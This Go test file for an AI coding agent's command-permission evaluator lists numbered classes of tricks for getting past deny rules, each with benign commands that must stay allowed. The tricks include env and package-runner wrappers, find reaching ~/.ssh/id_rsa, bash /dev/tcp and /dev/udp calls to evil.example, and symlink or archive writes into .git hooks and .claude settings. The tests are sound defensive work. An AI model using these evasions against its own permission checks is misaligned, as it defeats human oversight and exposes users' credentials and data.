package engine

// More bypass classes: each row is decided by both evaluators (through
// TestBypassClasses), with the benign neighbours that must stay allowed.
// netPolicy: the shell allowed, network clients denied.
const netPolicy = `{"permissions":{"allow":["Bash"],"deny":["Bash(curl *)","Bash(wget *)"]}}`

// sshPolicy: a home-anchored directory deny, deeper than one level below
// the filesystem root.
const sshPolicy = `{"permissions":{"allow":["Bash"],"deny":["Read(~/.ssh/**)","Read(.env)","Bash(rm *)"]}}`

func init() {
	bypassClasses["8 assignment words as env and sudo read them"] = []bypassCase{
		// env takes every word holding "=" as an assignment, whatever
		// its name: the command is the word after them.
		{commandPolicy, `env =x rm victim`, "deny"},
		{commandPolicy, `env 'a b=1' rm victim`, "deny"},
		{commandPolicy, `env -- =x rm victim`, "deny"},
		{commandPolicy, `env -i 'x-y=1' rm victim`, "deny"},
		{commandPolicy, `sudo 'a.b=1' rm victim`, "deny"},
		// An exported function bash imports from the environment.
		{commandPolicy, `env 'BASH_FUNC_ls%%=() { rm victim; }' bash -c ls`, "deny"},
		{commandPolicy, `env 'BASH_FUNC_ls()=() { rm victim; }' bash -c ls`, "deny"},
		{commandPolicy, `env "BASH_FUNC_ls%%=$F" bash -c ls`, "notallow"},
		{commandPolicy, `env "PAGER=$X" git log`, "notallow"},
		{commandPolicy, `env "$V" rm victim`, "notallow"},
		{commandPolicy, `env A=1 ls -la`, "allow"},
		{commandPolicy, `env NODE_ENV=test npm test`, "allow"},
		{commandPolicy, `env | sort`, "allow"},
	}
	bypassClasses["9 package runners run commands on PATH"] = []bypassCase{
		// npx (npm exec) runs a command on PATH when no package has that
		// binary; bunx, pnpx, pnpm dlx, yarn dlx, bun x, uvx and pipx run
		// fetch and run one: deny rules see the command.
		{commandPolicy, `npx rm victim`, "deny"},
		{commandPolicy, `npx -y rm victim`, "deny"},
		{commandPolicy, `npx --yes -- rm victim`, "deny"},
		{commandPolicy, `npx -p left-pad rm victim`, "deny"},
		{commandPolicy, `npx --call='rm victim'`, "deny"},
		{commandPolicy, `npx -qy git push origin main`, "deny"},
		{commandPolicy, `npx --node-options=--require=/tmp/x.js cowsay`, "notallow"},
		{commandPolicy, `bunx --bun rm victim`, "deny"},
		{commandPolicy, `pnpx rm victim`, "deny"},
		{commandPolicy, `pnpm dlx rm victim`, "deny"},
		{commandPolicy, `yarn dlx rm victim`, "deny"},
		{commandPolicy, `bun x rm victim`, "deny"},
		{commandPolicy, `uvx --from x rm victim`, "deny"},
		{commandPolicy, `pipx run rm victim`, "deny"},
		{commandPolicy, `timeout 5 npx rm victim`, "deny"},
		{commandPolicy, `npx prettier --check .`, "allow"},
		{commandPolicy, `npx -y tsc --noEmit`, "allow"},
		{commandPolicy, `npx --version`, "allow"},
		{commandPolicy, `bunx vitest run`, "allow"},
		{commandPolicy, `uvx ruff check .`, "allow"},
	}
	bypassClasses["10 recursive walks filtered by name reach deep guards"] = []bypassCase{
		// A walk of / or ~ kept to one base name (find -name, grep
		// --include, rg -g) still reaches ~/.ssh/id_rsa under ~/.ssh/**.
		{sshPolicy, `find / -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find ~ -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find / -name 'id_*' -exec cat {} +`, "notallow"},
		{sshPolicy, `grep -r --include=id_rsa KEY /`, "deny"},
		{sshPolicy, `rg -g id_rsa KEY /`, "deny"},
		{sshPolicy, `grep -r --include=authorized_keys ssh ~`, "deny"},
		{sshPolicy, `find . -name '*.go' -exec cat {} +`, "allow"},
		{sshPolicy, `grep -r --include='*.go' func src`, "allow"},
		{sshPolicy, `find / -name id_rsa`, "allow"},
	}
	bypassClasses["11 find's leading options and -files0-from"] = []bypassCase{
		// -H/-L/-P/-D/-O come before the start points; -files0-from
		// reads its start points (and echoes them) from a file.
		{sshPolicy, `find -P ~ -name 'id_*' -exec cat {} +`, "notallow"},
		{sshPolicy, `find -H / -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find -L -H / -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find -D tree / -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find -O3 -- / -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find -L . -exec cat {} +`, "notallow"},
		{sshPolicy, `find -files0-from .env`, "deny"},
		{sshPolicy, `find -files0-from ./.env -print`, "deny"},
		{sshPolicy, `find -files0-from list -exec cat {} +`, "notallow"},
		{sshPolicy, `find -files0-from list -name id_rsa -exec cat {} +`, "deny"},
		{sshPolicy, `find -L . -name '*.go'`, "allow"},
		{sshPolicy, `find -files0-from list -name '*.go'`, "allow"},
		{sshPolicy, `find . -newer .gitignore -name '*.go'`, "allow"},
	}
	bypassClasses["12 variables that configure the program they reach"] = []bypassCase{
		// Options (MAKEFLAGS, GOFLAGS, TAR_OPTIONS, npm_config_*), programs
		// run (CC, *_RUNNER, *_COMMAND), where configuration and code live
		// (HOME, XDG_CONFIG_HOME, *_PATH), files written (GIT_TRACE=/path).
		{commandPolicy, `MAKEFLAGS='--eval=x:=$(shell rm victim)' make`, "notallow"},
		{commandPolicy, `GOFLAGS=-toolexec=/tmp/x go test ./...`, "notallow"},
		{commandPolicy, `export GOFLAGS=-toolexec=/tmp/x; go test ./...`, "notallow"},
		{commandPolicy, `declare -x MAKEFLAGS=--eval=x; make`, "notallow"},
		{commandPolicy, `env GNUMAKEFLAGS=--eval=x make`, "notallow"},
		{commandPolicy, `TAR_OPTIONS=--to-command=sh tar xf a.tar`, "notallow"},
		{commandPolicy, `npm_config_script_shell=/tmp/x npm run build`, "notallow"},
		{commandPolicy, `NPM_CONFIG_NODE_OPTIONS='--require /tmp/x.js' npm test`, "notallow"},
		{commandPolicy, `CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm victim' cargo run`, "notallow"},
		{commandPolicy, `CC='rm victim' go build`, "notallow"},
		{commandPolicy, `PERL5DB='system q(rm victim)' perl -d -e 1`, "notallow"},
		{commandPolicy, `HOME=/tmp/evil git log`, "notallow"},
		{commandPolicy, `HOME=/tmp/evil; git log`, "notallow"},
		{commandPolicy, `XDG_CONFIG_HOME=/tmp/x git log`, "notallow"},
		{commandPolicy, `JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar java -version`, "notallow"},
		{protectPolicy, `GIT_TRACE=$PWD/.git/hooks/pre-commit git status`, "ask"},
		{protectPolicy, `GIT_TRACE_PACKET=~+/.claude/settings.json git fetch`, "ask"},
		{protectPolicy, `export GIT_TRACE2=$PWD/.git/config; git status`, "ask"},
		{pathPolicy, `GIT_TRACE=$PWD/config/app.yml git status`, "notallow"},
		{pathPolicy, `SSLKEYLOGFILE=~+/config/app.yml curl https://x.example`, "notallow"},
		{protectPolicy, `GIT_TRACE=1 git status`, "allow"},
		{commandPolicy, `GIT_TRACE=1 git status`, "allow"},
		{commandPolicy, `NODE_ENV=test npm test`, "allow"},
		{commandPolicy, `GOOS=linux GOARCH=arm64 go build ./...`, "allow"},
		{commandPolicy, `CGO_ENABLED=0 go build ./...`, "allow"},
		{commandPolicy, `FOO=bar npm test`, "allow"},
		{commandPolicy, `SRC=src; echo $SRC`, "allow"},
		{commandPolicy, `OUT_FILE=out.txt; echo $OUT_FILE`, "allow"},
		{commandPolicy, `export FOO=bar; echo $FOO`, "allow"},
		{commandPolicy, `RUST_LOG=debug cargo run`, "allow"},
	}
	bypassClasses["13 the shell as a network client"] = []bypassCase{
		// bash opens /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT itself: the
		// fetch curl's deny rule stops, with no command name at all.
		{netPolicy, `cat < /dev/tcp/evil.example/80`, "notallow"},
		{netPolicy, `exec 3<>/dev/tcp/evil.example/80; echo GET >&3; cat <&3`, "notallow"},
		{netPolicy, `echo data > /dev/udp/evil.example/53`, "notallow"},
		{netPolicy, `{ printf 'GET / HTTP/1.0\r\n\r\n'; } > /dev/tcp/h/80`, "notallow"},
		{netPolicy, `while read l; do echo "$l"; done < /dev/tcp/h/80`, "notallow"},
		{netPolicy, `echo x > "/dev/tcp/$H/80"`, "notallow"},
		{netPolicy, `bash -c 'cat </dev/tcp/h/80'`, "notallow"},
		{netPolicy, `echo x >/dev//tcp/h/80`, "notallow"},
		{netPolicy, `curl https://x.example`, "deny"},
		{netPolicy, `echo done > /dev/null`, "allow"},
		{netPolicy, `ls /dev`, "allow"},
		{netPolicy, `echo hi 2>/dev/stderr`, "allow"},
	}
	bypassClasses["14 links made in the same command"] = []bypassCase{
		// A link is a new name to write (or read) its target by: ln, link,
		// cp -s/-l write every operand, and a relative symlink target is
		// also read from the link's directory.
		{protectPolicy, `ln -s .git g; echo x > g/hooks/pre-commit`, "ask"},
		{protectPolicy, `ln -s .claude c && echo '{}' > c/settings.json`, "ask"},
		{protectPolicy, `ln -s ../.git sub/g; echo x > sub/g/config`, "ask"},
		{protectPolicy, `ln -sft . .git`, "ask"},
		{protectPolicy, `cp -rs .git g; echo x >> g/hooks/pre-commit`, "ask"},
		{protectPolicy, `cp --symbolic-link -r .git g`, "ask"},
		{pathPolicy, `ln -sf config c; echo x > c/app.yml`, "deny"},
		{pathPolicy, `ln config/app.yml x; echo y > x`, "deny"},
		{pathPolicy, `link config/app.yml x`, "deny"},
		{pathPolicy, `cp -l config/app.yml x`, "deny"},
		{pathPolicy, `ln -s .env x; cat x`, "deny"},
		{protectPolicy, `ln -s src/main.go main.go`, "allow"},
		{protectPolicy, `cp -r src dst`, "allow"},
		{protectPolicy, `ln -sf /usr/bin/python3 /tmp/py`, "allow"},
	}
	bypassClasses["15 extended and case-folding globs"] = []bypassCase{
		// shopt -s extglob on an earlier line: @(…), +(…) … are globs;
		// shopt -s nocaseglob: every glob matches in any case.
		{pathPolicy, "shopt -s extglob\ncat @(.env)", "deny"},
		{pathPolicy, "shopt -s extglob\ncat +(.e)nv", "deny"},
		{pathPolicy, "shopt -s extglob\nrev .@(e|x)nv", "deny"},
		{pathPolicy, "shopt -s extglob\ncat secrets/@(k*)", "deny"},
		{pathPolicy, "shopt -s nocaseglob\ncat .ENV*", "deny"},
		{pathPolicy, "shopt -s nocaseglob\nhead SECRETS/K?Y", "deny"},
		{pathPolicy, "shopt -s nocaseglob; cat .E[N]v*", "deny"},
		{pathPolicy, "bash -c 'shopt -s nocaseglob\ncat .EN?'", "deny"},
		{commandPolicy, "shopt -s extglob\n@(r)m victim", "notallow"},
		{pathPolicy, "shopt -s nocaseglob\ncat *.MD", "allow"},
		{pathPolicy, "cat *.md", "allow"},
		{pathPolicy, "shopt -s extglob\ncat src/@(main).go", "allow"},
	}
	bypassClasses["16 git am writes what its patches name"] = []bypassCase{
		{pathPolicy, `git am p.mbox`, "notallow"},
		{pathPolicy, `git am -3 < p.mbox`, "notallow"},
		{pathPolicy, `git -C . am p.mbox`, "notallow"},
		{pathPolicy, `git apply p.diff`, "notallow"},
		{pathPolicy, `git log --oneline -3`, "allow"},
		{pathPolicy, `git format-patch -1 --stdout`, "allow"},
	}
	bypassClasses["17 awk commands built by concatenation"] = []bypassCase{
		// system("r" "m x") and print | "r" "m x" run "rm x": a literal is
		// the command only when nothing is concatenated to it.
		{commandPolicy, `awk 'BEGIN{system("r" "m victim")}'`, "notallow"},
		{commandPolicy, `awk 'BEGIN{system("rm" " victim")}'`, "notallow"},
		{commandPolicy, `awk 'BEGIN{print "x" | "r" "m victim"}'`, "notallow"},
		{commandPolicy, `awk 'BEGIN{("r" "m victim") | getline}'`, "notallow"},
		{commandPolicy, `gawk 'BEGIN{system("r" x)}'`, "notallow"},
		{commandPolicy, `awk 'BEGIN{system("rm victim")}'`, "deny"},
		{commandPolicy, `awk '{print | "rm victim"}' f`, "deny"},
		{commandPolicy, `awk '{print $1 | "sort"}' f`, "allow"},
		{commandPolicy, `awk 'BEGIN { "date" | getline d; print d }'`, "allow"},
		{commandPolicy, `awk '{ if ($1 || $2) print }' f`, "allow"},
	}
	bypassClasses["18 commands run by ssh and container runtimes"] = []bypassCase{
		// ssh's command words run in the remote user's shell (localhost is
		// this machine); a container's command runs with host mounts.
		{commandPolicy, `ssh localhost rm victim`, "deny"},
		{commandPolicy, `ssh -t localhost 'rm victim'`, "deny"},
		{commandPolicy, `ssh -p 22 localhost -v rm victim`, "deny"},
		{commandPolicy, `ssh localhost 'cd /tmp && git push origin main'`, "deny"},
		{commandPolicy, `ssh localhost <<< 'rm victim'`, "notallow"},
		{commandPolicy, `docker run --rm -v "$PWD":/w alpine rm /w/victim`, "notallow"},
		{commandPolicy, `docker exec -it c rm victim`, "notallow"},
		{commandPolicy, `docker compose run web rm victim`, "notallow"},
		{commandPolicy, `podman run alpine rm victim`, "notallow"},
		{commandPolicy, `kubectl exec pod -- rm victim`, "notallow"},
		{commandPolicy, `ssh host ls -la`, "allow"},
		{commandPolicy, `ssh -N -L 8080:db:5432 host`, "allow"},
		{commandPolicy, `docker ps -a`, "allow"},
		{commandPolicy, `docker build -t app .`, "allow"},
		{commandPolicy, `kubectl get pods -A`, "allow"},
	}
	bypassClasses["19 git push under other names"] = []bypassCase{
		// git send-pack and http-push push as git push does, git subtree
		// push runs git push, and hub is git.
		{commandPolicy, `git send-pack origin main`, "deny"},
		{commandPolicy, `git send-pack --force origin HEAD:main`, "deny"},
		{commandPolicy, `git http-push https://h/r.git main`, "deny"},
		{commandPolicy, `git subtree push -P lib origin main`, "deny"},
		{commandPolicy, `git --no-pager subtree push --prefix=lib origin main`, "deny"},
		{commandPolicy, `hub push origin main`, "deny"},
		{commandPolicy, `hub -C . push`, "deny"},
		{gitPrefixPolicy, `hub push origin main`, "notallow"},
		{commandPolicy, `hub pr list`, "allow"},
		{commandPolicy, `git subtree split -P lib`, "allow"},
		{commandPolicy, `git stash push -m wip`, "allow"},
	}
	bypassClasses["20 archives, patches and copies from outside write protected paths"] = []bypassCase{
		// What an archive or a patch holds (or a tree copied from outside
		// the working directories) may be .git/hooks/… or .claude/…: the
		// protected-path check asks, whatever the allow rules.
		{protectPolicy, `tar xf /tmp/evil.tar`, "ask"},
		{protectPolicy, `unzip -o /tmp/evil.zip`, "ask"},
		{protectPolicy, `patch -p1 < /tmp/evil.diff`, "ask"},
		{protectPolicy, `git apply /tmp/evil.diff`, "ask"},
		{protectPolicy, `cpio -idmv < /tmp/evil.cpio`, "ask"},
		{protectPolicy, `pax -r < /tmp/evil.pax`, "ask"},
		{protectPolicy, `ar x /tmp/evil.a`, "ask"},
		{protectPolicy, `7z x /tmp/evil.7z`, "ask"},
		{protectPolicy, `cp -r /tmp/evil/. .`, "ask"},
		{protectPolicy, `rsync -a /tmp/evil/ ./`, "ask"},
		{pathPolicy, `cpio -i < /tmp/evil.cpio`, "notallow"},
		{pathPolicy, `7z x -oconfig /tmp/a.7z`, "notallow"},
		{protectPolicy, `unzip -l /tmp/a.zip`, "allow"},
		{protectPolicy, `tar tf /tmp/a.tar`, "allow"},
		{protectPolicy, `ar t /tmp/lib.a`, "allow"},
		{protectPolicy, `cp -r src dst`, "allow"},
		{protectPolicy, `tar czf /tmp/src.tgz src`, "allow"},
	}
	bypassClasses["21 paths held in variables set in the same command"] = []bypassCase{
		// D=.git or for d in .git: a later $D names what it was given.
		{protectPolicy, `D=.git; echo x > $D/hooks/pre-commit`, "ask"},
		{protectPolicy, `D=.git; cp /tmp/x "${D}/hooks/pre-commit"`, "ask"},
		{protectPolicy, `D=.g; E=it; echo x > $D$E/config`, "ask"},
		{protectPolicy, `for d in src .claude; do echo '{}' > $d/settings.json; done`, "ask"},
		{protectPolicy, `select d in .git; do echo x > "$d/hooks/x"; break; done`, "ask"},
		{protectPolicy, `declare D=.claude; tee $D/settings.local.json < /tmp/x`, "ask"},
		{pathPolicy, `x=.env; rev "$x"`, "deny"},
		{pathPolicy, `x=.env; cat $x`, "deny"},
		{pathPolicy, `for f in README.md .env; do xxd "$f"; done`, "deny"},
		{pathPolicy, `k=secrets/key; base64 $k`, "deny"},
		{pathPolicy, `c=config; sed -i s/a/b/ $c/app.yml`, "deny"},
		{protectPolicy, `f=out.txt; echo x > $f`, "allow"},
		{protectPolicy, `for f in a b; do echo x > $f.txt; done`, "allow"},
		{pathPolicy, `x=README.md; expand "$x"`, "allow"},
		{pathPolicy, `x=.env; echo "$x" >> .gitignore`, "notdeny"},
	}
	bypassClasses["22 command substitutions whose output is known"] = []bypassCase{
		// $(git rev-parse --git-dir), $(echo .env), $(printf %s X), `pwd`:
		// the output is known without running anything.
		{protectPolicy, `echo x > "$(git rev-parse --git-path hooks)/pre-commit"`, "ask"},
		{protectPolicy, `echo x > "$(git rev-parse --git-dir)/hooks/pre-commit"`, "ask"},
		{protectPolicy, "cp /tmp/x `git rev-parse --git-dir`/config", "ask"},
		{protectPolicy, `tee "$(echo .claude)/settings.json" < /tmp/x`, "ask"},
		{pathPolicy, `rev "$(echo .env)"`, "deny"},
		{pathPolicy, `cat $(printf %s .env)`, "deny"},
		{pathPolicy, "xxd `printf secrets/key`", "deny"},
		{protectPolicy, `echo x > "$(pwd)/out.txt"`, "allow"},
		{protectPolicy, `echo x > "$(mktemp)"`, "allow"},
		{pathPolicy, `expand "$(echo README.md)"`, "allow"},
		{pathPolicy, `git log $(git rev-parse HEAD)`, "allow"},
	}
	bypassClasses["23 a backslash ending a comment"] = []bypassCase{
		// bash ends a comment at the newline; the parser read "\<newline>"
		// in a comment as a continuation and joined the next line to the
		// command before the comment.
		{commandPolicy, "echo ok # \\\nrm victim", "deny"},
		{commandPolicy, "echo ok #\\\nrm victim", "deny"},
		{commandPolicy, "git status # see \\\ngit push origin main", "deny"},
		{commandPolicy, "ls #\\\n\\\nrm victim", "deny"},
		{commandPolicy, "f() { # \\\nrm victim; }; f", "deny"},
		{commandPolicy, "echo ok # a comment\nls", "allow"},
		{commandPolicy, "echo a \\\n b # done", "allow"},
	}
	bypassClasses["24 a NUL inside $'…'"] = []bypassCase{
		// bash keeps $'…' as a C string: \0, \x00, \u0000, \c@ end it.
		{commandPolicy, `$'rm\x00x' victim`, "deny"},
		{commandPolicy, `$'rm\0' victim`, "deny"},
		{commandPolicy, `$'r\c@'m victim`, "deny"},
		{commandPolicy, `$'rm\u0000z' victim`, "deny"},
		{commandPolicy, `git $'push\0x' origin main`, "deny"},
		{pathPolicy, `cat $'.env\x00junk'`, "deny"},
		{commandPolicy, `echo $'a\tb'`, "allow"},
		{commandPolicy, `printf $'%s\n' ok`, "allow"},
	}
	bypassClasses["25 git subcommands that write where their words say"] = []bypassCase{
		// checkout-index --prefix=.git/hooks/ installs tracked files as
		// hooks; worktree add, clone and init create a directory (and its
		// .git) where they are told.
		{protectPolicy, `git checkout-index --prefix=.git/hooks/ -a`, "ask"},
		{protectPolicy, `git checkout-index -f --prefix=.claude/ -a`, "ask"},
		{protectPolicy, `git worktree add .git/x`, "ask"},
		{protectPolicy, `git worktree add -b f .claude/wt`, "ask"},
		{protectPolicy, `git clone --depth 1 https://h/r .claude`, "ask"},
		{protectPolicy, `git init .claude`, "ask"},
		{pathPolicy, `git checkout-index --prefix=config/ -a`, "deny"},
		{protectPolicy, `git worktree add ../wt`, "allow"},
		{protectPolicy, `git worktree add .claude/worktrees/x`, "allow"},
		{protectPolicy, `git clone https://h/r app`, "allow"},
		{protectPolicy, `git checkout-index -a -f`, "allow"},
	}
	bypassClasses["26 runners agentctl has no grammar for"] = []bypassCase{
		// chpst, entr, ssh-agent, dumb-init, ccache, flatpak-spawn, pee …
		// run their arguments: an unknown program given a command a deny
		// or ask rule names (as a word or a shell string) may run it.
		{commandPolicy, `chpst -u nobody rm victim`, "notallow"},
		{commandPolicy, `ssh-agent rm victim`, "notallow"},
		{commandPolicy, `dumb-init rm victim`, "notallow"},
		{commandPolicy, `entr rm victim < list`, "notallow"},
		{commandPolicy, `ccache /bin/rm victim`, "notallow"},
		{commandPolicy, `flatpak-spawn --host rm victim`, "notallow"},
		{commandPolicy, `pee 'rm victim'`, "notallow"},
		{commandPolicy, `mispipe 'true; rm victim' cat`, "notallow"},
		{commandPolicy, `nodemon --exec='rm victim'`, "notallow"},
		{commandPolicy, `gosu nobody git push origin main`, "notallow"},
		{commandPolicy, `sqlite3 x.db '.shell rm victim'`, "notallow"},
		{commandPolicy, `psql -c '\! rm victim'`, "notallow"},
		{commandPolicy, `mysql -e 'system rm victim'`, "notallow"},
		{commandPolicy, `emacs --batch --eval '(shell-command "rm victim")'`, "notallow"},
		{commandPolicy, `octave --eval 'system("rm victim")'`, "notallow"},
		// The price: a multi-word string naming rm for an unknown program.
		{commandPolicy, `mytool --title 'remove rm usage'`, "notallow"},
		{commandPolicy, `mytool --title 'remove old usage'`, "allow"},
		{commandPolicy, `git commit -m 'rm old files'`, "allow"},
		{commandPolicy, `sqlite3 x.db 'select 1'`, "allow"},
		{commandPolicy, `mytool rm-cache`, "allow"},
		{commandPolicy, `docker rm old-container`, "allow"},
		{commandPolicy, `pip install requests`, "allow"},
		{commandPolicy, `cat rm`, "allow"},
		{commandPolicy, `grep -n rm README.md`, "allow"},
		{pathPolicy, `dumb-init rm victim`, "allow"},
	}
}
